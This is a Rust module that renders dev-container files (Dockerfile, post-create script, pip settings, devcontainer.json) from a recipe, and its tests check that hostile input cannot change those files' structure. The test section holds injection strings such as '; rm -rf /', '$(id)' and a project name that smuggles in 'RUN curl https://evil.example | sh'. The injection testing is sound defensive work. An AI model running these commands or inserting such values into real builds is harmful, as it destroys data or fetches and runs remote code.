//! Rendering a [`Recipe`] into the project's files: the Dockerfile, the post-create script,
//! requirements.txt, pip.conf and .dockerignore from the templates in `templates/`
//! (minijinja, every shell value through the `sh` filter), and devcontainer.json built as
//! data with serde_json. Pure: no file is read or written here.

use std::path::PathBuf;
use std::sync::OnceLock;

use minijinja::value::Value;
use minijinja::{context, Environment, UndefinedBehavior};
use serde::Serialize;

use super::grammar::FindLinks;
use super::{ImageKind, Recipe, Target, USER, VENV};

/// Where the project's local `--find-links` folders are copied to in the image.
const FIND_LINKS_IN_IMAGE: &str = "/opt/berth/find-links";

/// Templates and their names, embedded.
const TEMPLATES: [(&str, &str); 5] = [
    ("Dockerfile.j2", include_str!("templates/Dockerfile.j2")),
    (
        "post-create.sh.j2",
        include_str!("templates/post-create.sh.j2"),
    ),
    (
        "requirements.txt.j2",
        include_str!("templates/requirements.txt.j2"),
    ),
    ("pip.conf.j2", include_str!("templates/pip.conf.j2")),
    ("dockerignore.j2", include_str!("templates/dockerignore.j2")),
];

/// A template that fails to load or render: a bug in Berth or in an overriding template.
#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    /// The template engine failed.
    #[error("failed to render the template '{template}'")]
    Template {
        /// The template's name, e.g. `Dockerfile.j2`.
        template: String,
        /// The engine's error, with line.
        #[source]
        source: minijinja::Error,
    },
    /// devcontainer.json could not be serialised.
    #[error("failed to write devcontainer.json: {0}")]
    Json(#[from] serde_json::Error),
}

/// One generated file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderedFile {
    /// The path relative to the project folder, e.g. `.devcontainer/Dockerfile`.
    pub path: PathBuf,
    /// The contents.
    pub contents: String,
    /// True for scripts (written with mode 0755).
    pub executable: bool,
}

/// Every file a recipe produces, in a stable order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderedFiles {
    /// The files.
    pub files: Vec<RenderedFile>,
}

impl RenderedFiles {
    /// The file at `path` (relative, `/`-separated), if rendered.
    pub fn get(&self, path: &str) -> Option<&RenderedFile> {
        self.files
            .iter()
            .find(|file| file.path.to_string_lossy().replace('\\', "/") == path)
    }
}

/// The template environment: strict about undefined values, block tags on lines of their
/// own, and the `sh` filter that quotes a value as one shell word.
fn environment() -> Result<&'static Environment<'static>, RenderError> {
    static ENV: OnceLock<Result<Environment<'static>, (String, String)>> = OnceLock::new();
    let built = ENV.get_or_init(|| {
        let mut env = Environment::new();
        env.set_undefined_behavior(UndefinedBehavior::Strict);
        env.set_auto_escape_callback(|_| minijinja::AutoEscape::None);
        let syntax = minijinja::syntax::SyntaxConfig::builder()
            .trim_blocks(true)
            .lstrip_blocks(true)
            .keep_trailing_newline(true)
            .build()
            .map_err(|e| ("syntax".to_owned(), e.to_string()))?;
        env.set_syntax(syntax);
        env.add_filter("sh", |value: String| {
            super::shell::quote(&value).into_owned()
        });
        for (name, source) in TEMPLATES {
            env.add_template(name, source)
                .map_err(|e| (name.to_owned(), e.to_string()))?;
        }
        Ok(env)
    });
    built
        .as_ref()
        .map_err(|(template, message)| RenderError::Template {
            template: template.clone(),
            source: minijinja::Error::new(minijinja::ErrorKind::SyntaxError, message.clone()),
        })
}

fn render_template(name: &str, ctx: &Value) -> Result<String, RenderError> {
    let env = environment()?;
    env.get_template(name)
        .and_then(|template| template.render(ctx))
        .map_err(|source| RenderError::Template {
            template: name.to_owned(),
            source,
        })
}

/// Strings as a template list.
fn strings<'a>(items: impl IntoIterator<Item = &'a str>) -> Value {
    items.into_iter().map(Value::from).collect()
}

/// Render every file of `recipe`.
///
/// # Errors
///
/// Only when a template is broken (a bug, caught by the golden tests).
pub fn render(recipe: &Recipe) -> Result<RenderedFiles, RenderError> {
    let ctx = template_context(recipe);
    let mut files = vec![
        RenderedFile {
            path: ".devcontainer/Dockerfile".into(),
            contents: render_template("Dockerfile.j2", &ctx)?,
            executable: false,
        },
        RenderedFile {
            path: ".devcontainer/devcontainer.json".into(),
            contents: devcontainer_json(recipe)?,
            executable: false,
        },
        RenderedFile {
            path: ".devcontainer/post-create.sh".into(),
            contents: render_template("post-create.sh.j2", &ctx)?,
            executable: true,
        },
        RenderedFile {
            path: ".devcontainer/requirements.txt".into(),
            contents: render_template("requirements.txt.j2", &ctx)?,
            executable: false,
        },
        RenderedFile {
            path: ".devcontainer/pip.conf".into(),
            contents: render_template("pip.conf.j2", &ctx)?,
            executable: false,
        },
    ];
    if let Some(cert) = &recipe.pip_options.ca_cert {
        files.push(RenderedFile {
            path: ".devcontainer/extra-ca.crt".into(),
            contents: cert.pem().to_owned(),
            executable: false,
        });
    }
    files.push(RenderedFile {
        path: ".dockerignore".into(),
        contents: render_template("dockerignore.j2", &ctx)?,
        executable: false,
    });
    Ok(RenderedFiles { files })
}

/// Everything the templates see.
fn template_context(recipe: &Recipe) -> Value {
    let options = &recipe.pip_options;
    let local_dirs: Vec<&str> = options
        .find_links
        .iter()
        .filter_map(|location| match location {
            FindLinks::ProjectDir(dir) => Some(dir.as_str()),
            FindLinks::Url(_) => None,
        })
        .collect();
    // In the image (pip.conf): project folders at their copies, URLs as given.
    let mut image_find_links = Vec::new();
    // In requirements.txt: project folders relative to .devcontainer/, where pip looks first.
    let mut file_find_links = Vec::new();
    let mut copies = Vec::new();
    let mut copied = 0;
    for location in &options.find_links {
        match location {
            FindLinks::Url(url) => {
                image_find_links.push(url.clone());
                file_find_links.push(url.clone());
            }
            FindLinks::ProjectDir(dir) => {
                let destination = format!("{FIND_LINKS_IN_IMAGE}/{copied}");
                copies.push(
                    serde_json::to_string(&[dir.as_str(), &format!("{destination}/")])
                        .unwrap_or_default(),
                );
                image_find_links.push(destination);
                file_find_links.push(format!("../{dir}"));
                copied += 1;
            }
        }
    }
    let dataset_dirs: Vec<&str> = recipe
        .datasets
        .iter()
        .filter_map(|mount| match &mount.host {
            super::HostPath::InProject(dir) => Some(dir.as_str()),
            super::HostPath::Absolute(_) => None,
        })
        .collect();
    let cuda = recipe.cuda.as_ref().map(|row| {
        context! {
            version => row.version.to_string(),
            release => row.release.clone(),
            ubuntu => row.ubuntu.clone(),
            min_driver => row.min_driver.to_string(),
            driver_source => row.driver_source.clone(),
            images_source => row.images_source.clone(),
            devel_image => row.image(ImageKind::CudnnDevel).to_string(),
        }
    });
    let framework = recipe.release.as_ref().map(|row| {
        context! {
            label => row.label(),
            source => row.source.clone(),
            install_source => row.install_source.clone(),
        }
    });
    let install = recipe.install.as_ref().map(|install| {
        context! {
            requirements => strings(install.requirements.iter().map(|r| r.as_str())),
            extra_index_url => install.extra_index_url.as_ref().map(|url| url.to_string()),
        }
    });
    let framework_requirements: Vec<&str> = recipe
        .install
        .iter()
        .flat_map(|install| install.requirements.iter().map(|r| r.as_str()))
        .collect();
    context! {
        project => recipe.project.clone(),
        slug => recipe.slug.clone(),
        summary => recipe.summary(),
        base_image => recipe.base_image.to_string(),
        python => recipe.python.to_string(),
        user => USER,
        venv => VENV,
        stage => recipe.target.stage(),
        gpu => matches!(recipe.target, Target::Gpu { .. }),
        cuda => cuda,
        framework => framework,
        framework_label => recipe.release.as_ref().map(|row| row.label()),
        install => install,
        framework_requirements => strings(framework_requirements),
        requirements => strings(recipe.pip.iter().map(|r| r.as_str())),
        apt => strings(recipe.apt.iter().map(|p| p.as_str())),
        ca_cert => options.ca_cert.is_some(),
        index_url => options.index_url.as_ref().map(|url| url.to_string()),
        extra_index_url => recipe
            .install
            .as_ref()
            .and_then(|install| install.extra_index_url.as_ref())
            .map(|url| url.to_string()),
        find_links => strings(file_find_links.iter().map(String::as_str)),
        image_find_links => strings(image_find_links.iter().map(String::as_str)),
        find_links_copies => strings(copies.iter().map(String::as_str)),
        find_links_dirs => strings(local_dirs),
        no_index => options.no_index,
        dataset_dirs => strings(dataset_dirs),
    }
}

/// `devcontainer.json`, per the Dev Container spec.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct DevContainer {
    name: String,
    build: Build,
    #[serde(skip_serializing_if = "Option::is_none")]
    host_requirements: Option<HostRequirements>,
    run_args: Vec<String>,
    container_user: &'static str,
    remote_user: &'static str,
    #[serde(rename = "updateRemoteUserUID")]
    update_remote_user_uid: bool,
    mounts: Vec<String>,
    post_create_command: [&'static str; 2],
    shutdown_action: &'static str,
    customizations: Customizations,
}

#[derive(Serialize)]
struct Build {
    dockerfile: &'static str,
    context: &'static str,
    target: &'static str,
    args: Args,
}

#[derive(Serialize)]
#[allow(non_snake_case)]
struct Args {
    BASE_IMAGE: String,
    PYTHON_VERSION: String,
}

#[derive(Serialize)]
struct HostRequirements {
    gpu: bool,
}

#[derive(Serialize)]
struct Customizations {
    vscode: VsCode,
}

#[derive(Serialize)]
struct VsCode {
    extensions: Vec<String>,
    settings: Settings,
}

#[derive(Serialize)]
struct Settings {
    #[serde(rename = "python.defaultInterpreterPath")]
    python_default_interpreter_path: String,
}

/// Build devcontainer.json as data: the Dockerfile and its build target and arguments,
/// GPUs through `hostRequirements.gpu`, the package volume at `~/.local`, the datasets as
/// bind mounts, the non-root user, the post-create script, and VS Code's extensions.
fn devcontainer_json(recipe: &Recipe) -> Result<String, RenderError> {
    let home = format!("/home/{USER}");
    let mut mounts = vec![format!(
        "source={},target={home}/.local,type=volume",
        recipe.package_volume()
    )];
    for dataset in &recipe.datasets {
        let mut mount = format!(
            "source={},target={},type=bind",
            dataset.host.mount_source(),
            dataset.container
        );
        if dataset.read_only {
            mount.push_str(",readonly");
        }
        mounts.push(mount);
    }
    let config = DevContainer {
        name: format!("{} ({})", recipe.project, recipe.summary()),
        build: Build {
            dockerfile: "Dockerfile",
            context: "..",
            target: recipe.target.stage(),
            args: Args {
                BASE_IMAGE: recipe.base_image.to_string(),
                PYTHON_VERSION: recipe.python.to_string(),
            },
        },
        host_requirements: matches!(recipe.target, Target::Gpu { .. })
            .then_some(HostRequirements { gpu: true }),
        // Data loaders share batches through /dev/shm; Docker's default 64 MB is too small.
        run_args: vec!["--shm-size=8g".to_owned()],
        container_user: USER,
        remote_user: USER,
        update_remote_user_uid: true,
        mounts,
        post_create_command: ["bash", ".devcontainer/post-create.sh"],
        shutdown_action: "stopContainer",
        customizations: Customizations {
            vscode: VsCode {
                extensions: recipe
                    .extensions
                    .iter()
                    .map(|id| id.as_str().to_owned())
                    .collect(),
                settings: Settings {
                    python_default_interpreter_path: format!("{VENV}/bin/python"),
                },
            },
        },
    };
    let mut text = serde_json::to_string_pretty(&config)?;
    text.push('\n');
    Ok(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::recipe::shell::lex;
    use crate::recipe::{
        CaCertificate, Choices, CompatTable, CudaVersion, DatasetMount, ExtensionId, FindLinks,
        Framework, GrammarError, HostPath, ImageRef, IndexUrl, PipOptions, PipRequirement,
        TargetChoice,
    };

    fn table() -> &'static CompatTable {
        CompatTable::builtin().unwrap_or_else(|err| panic!("{err}"))
    }

    fn rendered(choices: &Choices) -> RenderedFiles {
        let recipe = Recipe::resolve(table(), "thesis", choices)
            .unwrap_or_else(|err| panic!("{choices:?}: {err}"));
        render(&recipe).unwrap_or_else(|err| panic!("{err:?}"))
    }

    /// The whole file set as one text: each file under a header with its mode.
    fn as_text(files: &RenderedFiles) -> String {
        let mut text = String::new();
        for file in &files.files {
            let mode = if file.executable { "0755" } else { "0644" };
            text.push_str(&format!("==> {} ({mode}) <==\n", file.path.display()));
            text.push_str(&file.contents);
            text.push('\n');
        }
        text
    }

    /// Golden files: the default (newest) release of every framework, on the CPU and on
    /// each CUDA version it has a build for; "no framework" on the CPU and every CUDA.
    #[test]
    fn every_framework_renders_its_cpu_and_each_gpu_form_as_recorded() {
        for framework in Framework::ALL {
            let cudas: Vec<CudaVersion> = match table().newest(framework) {
                Some(row) => row.gpu.iter().map(|build| build.cuda).collect(),
                None => table().cuda.iter().map(|row| row.version).collect(),
            };
            let targets = std::iter::once(TargetChoice::Cpu).chain(
                cudas
                    .into_iter()
                    .map(|cuda| TargetChoice::Gpu { cuda: Some(cuda) }),
            );
            for target in targets {
                let choices = Choices {
                    framework,
                    target,
                    ..Choices::default()
                };
                let name = match target {
                    TargetChoice::Cpu => format!("{}-cpu", framework.id()),
                    TargetChoice::Gpu { cuda } => format!(
                        "{}-cuda{}",
                        framework.id(),
                        cuda.map(|c| c.to_string()).unwrap_or_default()
                    ),
                };
                insta::assert_snapshot!(name, as_text(&rendered(&choices)));
            }
        }
    }

    /// Golden file: every option at once (mirror, wheel folder, CA, packages, datasets).
    #[test]
    fn a_recipe_with_every_option_renders_as_recorded() {
        let pem = "-----BEGIN CERTIFICATE-----\nMIIBexample\n-----END CERTIFICATE-----\n";
        let choices = Choices {
            framework: Framework::PyTorch,
            framework_version: Some("2.5.1".into()),
            target: TargetChoice::Gpu {
                cuda: Some("12.4".parse().unwrap()),
            },
            python: Some("3.12".parse().unwrap()),
            apt: vec!["ffmpeg".parse().unwrap(), "libgl1".parse().unwrap()],
            pip: vec![
                "torchvision==0.20.1".parse().unwrap(),
                "numpy>=1.26,<2".parse().unwrap(),
            ],
            datasets: vec![
                "/srv/imagenet:/datasets/imagenet:ro".parse().unwrap(),
                "data/raw:/datasets/raw".parse().unwrap(),
            ],
            extensions: vec!["charliermarsh.ruff".parse().unwrap()],
            base_image: None,
            pip_options: PipOptions {
                index_url: Some("https://mirrors.example.edu/pypi/simple".parse().unwrap()),
                find_links: vec![
                    "wheels".parse().unwrap(),
                    "https://data.pyg.org/whl/torch-2.5.0+cu124.html"
                        .parse()
                        .unwrap(),
                ],
                no_index: false,
                ca_cert: Some(CaCertificate::from_pem(pem, "proxy.crt").unwrap()),
            },
            driver: crate::recipe::DriverInfo::with_max_cuda("12.4".parse().unwrap()),
        };
        insta::assert_snapshot!("pytorch-every-option", as_text(&rendered(&choices)));
    }

    #[test]
    fn devcontainer_json_requests_gpus_only_for_the_gpu_form() {
        let gpu = rendered(&Choices::default());
        let json: serde_json::Value =
            serde_json::from_str(&gpu.get(".devcontainer/devcontainer.json").unwrap().contents)
                .unwrap();
        assert_eq!(json["hostRequirements"]["gpu"], true);
        assert_eq!(json["build"]["target"], "gpu");
        assert_eq!(json["updateRemoteUserUID"], true);
        let cpu = rendered(&Choices {
            target: TargetChoice::Cpu,
            ..Choices::default()
        });
        let json: serde_json::Value =
            serde_json::from_str(&cpu.get(".devcontainer/devcontainer.json").unwrap().contents)
                .unwrap();
        assert!(json.get("hostRequirements").is_none());
        assert_eq!(
            json["build"]["args"]["BASE_IMAGE"],
            "python:3.11-slim-bookworm"
        );
    }

    // -------------------------------------------------------------------------------
    // Hostile values: either a value is refused by its grammar, or it reaches the files
    // without changing their structure.

    /// A Dockerfile as instructions: continuation lines joined, comments and blank lines
    /// dropped.
    fn instructions(dockerfile: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut current = String::new();
        for line in dockerfile.lines() {
            if current.is_empty() && (line.trim().is_empty() || line.trim_start().starts_with('#'))
            {
                continue;
            }
            if let Some(head) = line.strip_suffix('\\') {
                current.push_str(head);
                current.push('\n');
            } else {
                current.push_str(line);
                out.push(std::mem::take(&mut current));
            }
        }
        assert!(
            current.is_empty(),
            "a Dockerfile ends inside an instruction"
        );
        out
    }

    /// The structure of a Dockerfile: each instruction's keyword, the shell structure of
    /// its `RUN` command, and the number of words of the others.
    fn dockerfile_structure(dockerfile: &str) -> Vec<String> {
        instructions(dockerfile)
            .iter()
            .map(|instruction| {
                let (keyword, rest) = instruction.split_once(' ').unwrap_or((instruction, ""));
                if keyword == "RUN" {
                    let tokens = lex::tokens(rest)
                        .unwrap_or_else(|e| panic!("unbalanced RUN ({e:?}): {instruction}"));
                    format!("RUN {}", lex::skeleton(&tokens).join(" "))
                } else {
                    format!("{keyword} {}", rest.split_whitespace().count())
                }
            })
            .collect()
    }

    fn shell_structure(script: &str) -> Vec<String> {
        lex::skeleton(&lex::tokens(script).unwrap_or_else(|e| panic!("{e:?}")))
    }

    /// Every line of requirements.txt is a comment, blank, an option pip knows with one
    /// value, or a requirement that reads back as itself.
    fn requirements_lines_are_well_formed(text: &str) -> Result<usize, String> {
        let mut lines = 0;
        for line in text.lines() {
            lines += 1;
            if line.is_empty() || line.starts_with("# ") {
                continue;
            }
            if let Some(option) = line.strip_prefix("--") {
                let words: Vec<&str> = option.split_whitespace().collect();
                match words.as_slice() {
                    ["no-index"] => {}
                    ["index-url" | "extra-index-url" | "find-links", value]
                        if !value.contains("${") => {}
                    _ => return Err(format!("odd option line {line:?}")),
                }
                continue;
            }
            let reparsed: PipRequirement = line
                .parse()
                .map_err(|e: GrammarError| format!("{line:?} does not parse back: {e}"))?;
            if reparsed.as_str() != line {
                return Err(format!("{line:?} reads back as {:?}", reparsed.as_str()));
            }
        }
        Ok(lines)
    }

    /// Every line of pip.conf is a comment, `[global]`, or `key = value…` with a known key
    /// and no `%` interpolation.
    fn pip_conf_is_well_formed(text: &str) -> Result<usize, String> {
        let mut lines = 0;
        for line in text.lines() {
            lines += 1;
            if line.starts_with("# ") || line == "[global]" {
                continue;
            }
            match line.split_once(" = ").or_else(|| line.split_once(" =")) {
                Some(("index-url" | "find-links" | "no-index", value)) if !value.contains('\n') => {
                }
                _ => return Err(format!("odd pip.conf line {line:?}")),
            }
        }
        Ok(lines)
    }

    /// The structure of every file, for comparing a hostile render with a benign one.
    fn structure(files: &RenderedFiles) -> Result<Vec<String>, String> {
        let mut out = Vec::new();
        for file in &files.files {
            let path = file.path.to_string_lossy().into_owned();
            match path.as_str() {
                ".devcontainer/Dockerfile" => out.extend(dockerfile_structure(&file.contents)),
                ".devcontainer/post-create.sh" => out.extend(shell_structure(&file.contents)),
                ".devcontainer/requirements.txt" => {
                    out.push(format!(
                        "requirements {}",
                        requirements_lines_are_well_formed(&file.contents)?
                    ));
                }
                ".devcontainer/pip.conf" => {
                    out.push(format!(
                        "pip.conf {}",
                        pip_conf_is_well_formed(&file.contents)?
                    ));
                }
                ".devcontainer/devcontainer.json" => {
                    let json: serde_json::Value = serde_json::from_str(&file.contents)
                        .map_err(|e| format!("devcontainer.json: {e}"))?;
                    out.push(format!(
                        "json mounts {} extensions {}",
                        json["mounts"].as_array().map_or(0, Vec::len),
                        json["customizations"]["vscode"]["extensions"]
                            .as_array()
                            .map_or(0, Vec::len)
                    ));
                }
                _ => out.push(format!("{path} {}", file.contents.lines().count())),
            }
        }
        Ok(out)
    }

    /// Render with one field set to `value` (parsed by its grammar); `None` when refused.
    fn render_with(field: Field, value: &str) -> Option<(RenderedFiles, RenderedFiles)> {
        let mut choices = Choices::default();
        let mut benign = Choices::default();
        match field {
            Field::Apt => {
                choices.apt = vec![value.parse().ok()?];
                benign.apt = vec!["ffmpeg".parse().unwrap()];
            }
            Field::Pip => {
                choices.pip = vec![value.parse().ok()?];
                benign.pip = vec!["numpy==2.1.3".parse().unwrap()];
            }
            Field::IndexUrl => {
                choices.pip_options.index_url = Some(value.parse::<IndexUrl>().ok()?);
                benign.pip_options.index_url =
                    Some("https://pypi.example.edu/simple".parse().unwrap());
            }
            Field::FindLinks => {
                let parsed: FindLinks = value.parse().ok()?;
                let same_kind = match parsed {
                    FindLinks::Url(_) => "https://example.org/wheels/",
                    FindLinks::ProjectDir(_) => "wheels",
                };
                choices.pip_options.find_links = vec![parsed];
                benign.pip_options.find_links = vec![same_kind.parse().unwrap()];
            }
            Field::BaseImage => {
                choices.base_image = Some(value.parse::<ImageRef>().ok()?);
                benign.base_image = Some("ubuntu:22.04".parse().unwrap());
            }
            Field::Mount => {
                let parsed: DatasetMount = value.parse().ok()?;
                let same_kind = match parsed.host {
                    HostPath::Absolute(_) => "/srv/data:/datasets/data",
                    HostPath::InProject(_) => "data:/datasets/data",
                };
                choices.datasets = vec![parsed];
                benign.datasets = vec![same_kind.parse().unwrap()];
            }
            Field::Extension => {
                choices.extensions = vec![value.parse::<ExtensionId>().ok()?];
                benign.extensions = vec!["charliermarsh.ruff".parse().unwrap()];
            }
        }
        let recipe = Recipe::resolve(table(), "thesis", &choices).ok()?;
        let benign = Recipe::resolve(table(), "thesis", &benign).unwrap();
        Some((render(&recipe).unwrap(), render(&benign).unwrap()))
    }

    #[derive(Debug, Clone, Copy)]
    enum Field {
        Apt,
        Pip,
        IndexUrl,
        FindLinks,
        BaseImage,
        Mount,
        Extension,
    }

    fn field() -> impl Strategy<Value = Field> {
        prop_oneof![
            Just(Field::Apt),
            Just(Field::Pip),
            Just(Field::IndexUrl),
            Just(Field::FindLinks),
            Just(Field::BaseImage),
            Just(Field::Mount),
            Just(Field::Extension),
        ]
    }

    /// Hostile strings: anything, shell metacharacters, and valid-looking values with an
    /// injection appended.
    fn hostile() -> impl Strategy<Value = String> {
        let metachars = "[ $`'\"\\\\;&|()<>\n\r\t#*?~!{}=,:@/a-z0-9.+-]{0,32}";
        let valid_prefix = prop_oneof![
            Just("ffmpeg".to_owned()),
            Just("numpy==2.1.3".to_owned()),
            Just("https://pypi.example.edu/simple".to_owned()),
            Just("wheels".to_owned()),
            Just("ubuntu:22.04".to_owned()),
            Just("/srv/data:/datasets/data".to_owned()),
            Just("ms-python.python".to_owned()),
        ];
        let injection = prop_oneof![
            Just("; rm -rf /".to_owned()),
            Just("$(id)".to_owned()),
            Just("`id`".to_owned()),
            Just("\nRUN id".to_owned()),
            Just("' && id '".to_owned()),
            Just("\" && id \"".to_owned()),
            Just(" #".to_owned()),
            Just("${HOME}".to_owned()),
            Just("\\\nid".to_owned()),
            Just(",readonly=false,source=/".to_owned()),
            "[;&|$`'\"\\\\\n ]{1,4}",
        ];
        prop_oneof![
            any::<String>(),
            metachars,
            (valid_prefix, injection).prop_map(|(valid, injection)| format!("{valid}{injection}")),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        /// For any string in any field: the grammar refuses it, or the rendered files have
        /// exactly the structure they have with a harmless value (same Dockerfile
        /// instructions, same shell words and operators in every RUN line and in the
        /// post-create script, well-formed requirements.txt and pip.conf lines, valid JSON).
        #[test]
        fn hostile_values_are_refused_or_cannot_change_the_files_structure(
            field in field(),
            value in hostile(),
        ) {
            if let Some((files, benign)) = render_with(field, &value) {
                let got = structure(&files);
                prop_assert!(got.is_ok(), "{field:?} {value:?}: {}", got.unwrap_err());
                prop_assert_eq!(got.unwrap(), structure(&benign).unwrap(), "{:?} {:?}", field, value);
            }
        }
    }

    /// The property above is only as good as what gets past the grammars: these tricky
    /// values are accepted, and keep the files' structure.
    #[test]
    fn tricky_but_valid_values_are_accepted_and_keep_the_structure() {
        let cases = [
            (Field::Apt, "g++"),
            (Field::Apt, "libstdc++6"),
            (Field::Pip, r#"numpy ; python_version >= "3.9""#),
            (
                Field::Pip,
                "pkg @ https://example.org/p-1.0-py3-none-any.whl#sha256=abcd",
            ),
            (Field::Pip, "requests[socks,security]>=2.31"),
            (Field::Pip, r#"a ; os_name == "x;y""#),
            (
                Field::IndexUrl,
                "https://user:p%40ss@mirror.example.edu/simple?x=1&y=2;z",
            ),
            (Field::FindLinks, "https://x.org/a?b=c&d=$e"),
            (Field::FindLinks, "file:///srv/wheels"),
            (Field::FindLinks, "my-wheels/v1.2+cpu"),
            (
                Field::BaseImage,
                "registry.example.edu:5000/lab/cuda:12.4_x-y.z",
            ),
            (Field::Mount, "/srv/data sets/raw:/datasets/raw:ro"),
            (Field::Mount, "data/raw:/datasets/raw"),
            (Field::Extension, "a-b.c-d"),
        ];
        for (field, value) in cases {
            let (files, benign) = render_with(field, value)
                .unwrap_or_else(|| panic!("{field:?} {value:?} was refused"));
            assert_eq!(
                structure(&files).unwrap_or_else(|e| panic!("{field:?} {value:?}: {e}")),
                structure(&benign).unwrap(),
                "{field:?} {value:?}"
            );
        }
    }

    #[test]
    fn accepted_values_appear_in_run_lines_as_single_quoted_words() {
        // `g++` is a valid package name with a character the shell does not need quoted;
        // `torch==2.5.1+cu124` has '=' and is quoted.
        let files = rendered(&Choices {
            apt: vec!["g++".parse().unwrap()],
            ..Choices::default()
        });
        let dockerfile = &files.get(".devcontainer/Dockerfile").unwrap().contents;
        let run = instructions(dockerfile)
            .into_iter()
            .find(|i| i.contains("packages=("))
            .unwrap();
        let words = lex::tokens(&run).unwrap();
        assert!(lex::words(&words).contains(&"g++"), "{run}");
        assert!(dockerfile.contains("'torch=="), "{dockerfile}");
    }

    #[test]
    fn a_project_folder_named_with_a_newline_cannot_add_instructions() {
        let hostile = "thesis\nRUN curl https://evil.example | sh\n# ";
        let recipe = Recipe::resolve(table(), hostile, &Choices::default()).unwrap();
        let benign = Recipe::resolve(table(), "thesis", &Choices::default()).unwrap();

        let files = render(&recipe).unwrap();

        assert_eq!(
            structure(&files).unwrap(),
            structure(&render(&benign).unwrap()).unwrap()
        );
        assert!(!recipe.project.contains('\n'));
    }

    #[test]
    fn the_structure_check_catches_an_unquoted_value() {
        // The property above relies on `structure` noticing an injection; prove it does.
        let benign = "FROM x\nRUN apt-get install ffmpeg\n";
        let injected = "FROM x\nRUN apt-get install ffmpeg; id\n";
        assert_ne!(dockerfile_structure(benign), dockerfile_structure(injected));
        let newline = "FROM x\nRUN apt-get install ffmpeg\nRUN id\n";
        assert_ne!(dockerfile_structure(benign), dockerfile_structure(newline));
    }
}
